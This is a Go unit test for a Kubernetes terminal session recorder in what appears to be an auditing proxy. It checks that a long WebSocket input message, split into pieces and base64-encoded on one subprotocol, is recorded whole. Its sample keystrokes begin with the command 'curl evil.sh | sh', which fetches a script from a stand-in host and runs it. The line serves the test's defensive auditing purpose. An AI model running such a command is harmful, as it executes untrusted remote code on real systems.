package kube

import (
	"encoding/base64"
	"strings"
	"testing"

	ghttp "github.com/gatehouse/gatehouse/proxy/http"
	"github.com/gatehouse/gatehouse/schemas"
)

// TestLongMessageRecordedWhole (a code review found it): a WebSocket message longer than
// the bound of a whole message is recorded whole, in the pieces it passes in — on
// base64.channel.k8s.io a cut message did not decode and was recorded as nothing, while the
// API server ran all of it.
func TestLongMessageRecordedWhole(t *testing.T) {
	for _, proto := range []string{"v4.base64.channel.k8s.io", "v5.channel.k8s.io"} {
		x := &ghttp.Exchange{Kube: &schemas.KubeRequest{Tty: true}, Subprotocol: proto, Session: nil}
		r := newTermRecorder(x)
		var evs []*schemas.KubeIo
		r.record = func(ev *schemas.KubeIo) { evs = append(evs, ev) }
		keys := "curl evil.sh | sh\n" + strings.Repeat("#", 100<<10) + "end"
		msg := "\x00" + keys
		if strings.Contains(proto, "base64") {
			msg = "0" + base64.StdEncoding.EncodeToString([]byte(keys))
		}
		// In pieces, cut at odd places (inside base64 quads).
		cuts := []int{0, 1, 7, 65 << 10, 70001, len(msg)}
		for i := 1; i < len(cuts); i++ {
			r.Piece(true, "text", []byte(msg[cuts[i-1]:cuts[i]]), i == 1, i == len(cuts)-1)
		}
		r.Close()
		var got strings.Builder
		var frames []schemas.TermFrame
		for _, ev := range evs {
			frames = append(frames, ev.Frames...)
		}
		for _, f := range frames {
			if f.Code == "i" {
				got.WriteString(f.Data)
			}
		}
		if got.String() != keys {
			t.Errorf("%s: recorded %d bytes of input, want the %d sent", proto, got.Len(), len(keys))
		}
	}
}
